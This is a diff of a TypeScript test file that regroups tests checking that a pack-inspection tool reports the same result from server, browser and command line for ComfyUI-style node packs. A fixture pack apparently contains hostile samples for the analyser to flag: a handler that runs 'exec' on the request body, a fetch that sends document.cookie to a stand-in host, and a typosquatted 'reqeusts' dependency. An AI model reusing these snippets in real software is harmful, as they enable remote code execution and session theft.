@@ -7,7 +7,7 @@ import { createRequire } from 'node:module'
 import type { AddressInfo } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { after, before, test } from 'node:test'
+import { after, before, describe, it } from 'node:test'
 import { pino } from 'pino'
 import type { Browser, Page } from 'playwright-core'
 import { rolldown } from 'rolldown'
@@ -46,7 +46,7 @@ after(async () => {
   await rm(folder, { recursive: true, force: true })
 })
 
-/** The analysis as a browser gets it, with the two functions that this test calls. */
+/** Bundles the analysis for a browser, with the two functions that this test calls. */
 async function bundle(): Promise<string> {
   const entry = join(import.meta.dirname, 'inspect-in-browser.ts')
   const outside = ['module', 'fs/promises']
@@ -87,31 +87,32 @@ async function assertSame(name: string, files: Record<string, string | Uint8Arra
     command += text
   }
   assert.equal(await runInspect([path, '--json'], print), 0, command)
-  const { inspection } = await analyst.inspect(path)
+  const { inspection } = (await analyst.read(path)).pack
   assert.equal(JSON.stringify(inspection, null, 2), command, 'the server says what the command says')
   const shown = await inBrowser('inspect', Buffer.from(zip).toString('base64'))
   assert.equal(shown, command, 'the browser says what the command says')
 }
 
-for (const pack of globSync('*', { cwd: demo }).sort().slice(0, 6)) {
-  test(`the server, the browser and the command say the same of the demo pack ${pack}`, async () => {
-    const paths = globSync('**/*.*', { cwd: join(demo, pack) })
-    await assertSame(
-      pack,
-      Object.fromEntries(paths.map((path) => [path, readFileSync(join(demo, pack, path))])),
-    )
-  })
-}
+describe('the inspection of a pack', () => {
+  for (const pack of globSync('*', { cwd: demo }).sort().slice(0, 6)) {
+    it(`is the same in server, browser and command for the demo pack ${pack}`, async () => {
+      const paths = globSync('**/*.*', { cwd: join(demo, pack) })
+      await assertSame(
+        pack,
+        Object.fromEntries(paths.map((path) => [path, readFileSync(join(demo, pack, path))])),
+      )
+    })
+  }
 
-for (const seed of seeds) {
-  test(`they say the same of a pack that no person would write (${seed})`, async () => {
-    await assertSame(`odd-${seed}`, makePack(new Random(seed)))
-  })
-}
+  for (const seed of seeds) {
+    it(`is the same for a generated pack (${seed})`, async () => {
+      await assertSame(`odd-${seed}`, makePack(new Random(seed)))
+    })
+  }
 
-test('they say the same of texts in many scripts', async () => {
-  await assertSame('scripts', {
-    '__init__.py': `class Ünïcode:
+  it('is the same for texts in many scripts', async () => {
+    await assertSame('scripts', {
+      '__init__.py': `class Ünïcode:
     """İstanbul ß ﬃ"""
     CATEGORY = "图像/ぼかし".upper() + "straße".title() + "İI".lower()
     RETURN_TYPES = ("IMAGE",)
@@ -120,16 +121,16 @@ test('they say the same of texts in many scripts', async () => {
         return {"required": {"größe": ("FLOAT", {"default": 1e-7, "max": 1e22, "step": 0.1 + 0.2})}}
 NODE_CLASS_MAPPINGS = {"🎨 Ünïcode": Ünïcode}
 `,
-    'locales/ar/nodeDefs.json': '{"🎨 Ünïcode": {"display_name": "اسم"}}',
+      'locales/ar/nodeDefs.json': '{"🎨 Ünïcode": {"display_name": "اسم"}}',
+    })
   })
-})
 
-test('they say the same of a pack that has everything', async () => {
-  await assertSame('everything', {
-    'pyproject.toml':
-      '[project]\nname = "everything"\nversion = "1.0.0"\ndependencies = ["numpy", "reqeusts"]\n[tool.comfy]\nweb = "more"\n',
-    'README.md': '# Everything\n',
-    '__init__.py': `"""All of it."""
+  it('is the same for a pack with every feature', async () => {
+    await assertSame('everything', {
+      'pyproject.toml':
+        '[project]\nname = "everything"\nversion = "1.0.0"\ndependencies = ["numpy", "reqeusts"]\n[tool.comfy]\nweb = "more"\n',
+      'README.md': '# Everything\n',
+      '__init__.py': `"""All of it."""
 import os, subprocess, requests
 from inspect import cleandoc
 from server import PromptServer
@@ -153,7 +154,7 @@ class Blur:
 async def everything(request): exec(await request.text())
 NODE_CLASS_MAPPINGS = {"acme.Blur": Blur}
 `,
-    'schema.py': `from comfy_api.latest import io, ComfyExtension
+      'schema.py': `from comfy_api.latest import io, ComfyExtension
 class Sharpen(io.ComfyNode):
     @classmethod
     def define_schema(cls):
@@ -162,12 +163,13 @@ class Extension(ComfyExtension):
     async def get_node_list(self): return [Sharpen]
 async def comfy_entrypoint(): return Extension()
 `,
-    'locales/fr/nodeDefs.json': '{"acme_Blur": {"display_name": "Flou", "outputs": {"0": {"name": "x"}}}}',
-    'locales/zh-TW/main.json': '{"nodeDefs": {"acme_Blur": {"description": "\\u8aaa\\u660e \\ud800"}}}',
-    'web/main.js': 'fetch("https://b.example.test/?c=" + document.cookie)',
-    'web/docs/acme.Blur.md': '# Blur',
-    'more/docs/acme.Blur/ja.md': '# ぼかし',
-    'lib/x.so': Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0),
-    'node_list.json': '["Listed"]',
+      'locales/fr/nodeDefs.json': '{"acme_Blur": {"display_name": "Flou", "outputs": {"0": {"name": "x"}}}}',
+      'locales/zh-TW/main.json': '{"nodeDefs": {"acme_Blur": {"description": "\\u8aaa\\u660e \\ud800"}}}',
+      'web/main.js': 'fetch("https://b.example.test/?c=" + document.cookie)',
+      'web/docs/acme.Blur.md': '# Blur',
+      'more/docs/acme.Blur/ja.md': '# ぼかし',
+      'lib/x.so': Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0),
+      'node_list.json': '["Listed"]',
+    })
   })
 })
